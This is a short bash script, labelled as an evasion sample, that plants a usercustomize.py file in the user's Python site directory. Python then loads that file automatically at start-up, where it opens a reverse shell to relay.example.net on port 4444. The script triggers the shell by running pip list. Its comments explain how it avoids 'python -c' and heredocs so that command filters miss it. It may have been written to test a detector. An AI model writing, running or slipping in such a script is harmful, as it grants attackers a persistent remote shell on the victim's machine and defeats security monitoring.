#!/usr/bin/env bash
# Evasion: writes usercustomize.py into the user's site directory with
# printf, one Python line per argument; Python's site module imports it at
# every start-up (ENABLE_USER_SITE), so the next `python3 -m pip list` runs
# the reverse shell it holds. No python -c, no heredoc fed to python.
set -e

site=$(python3 -m site --user-site)
mkdir -p "$site"
printf '%s\n' \
  'import socket, subprocess, os' \
  's = socket.create_connection(("relay.example.net", 4444))' \
  'subprocess.Popen(["/bin/sh", "-i"], stdin=s.fileno(), stdout=s.fileno(), stderr=s.fileno())' \
  > "$site/usercustomize.py"
python3 -m pip list --user 2>/dev/null | head -n 5
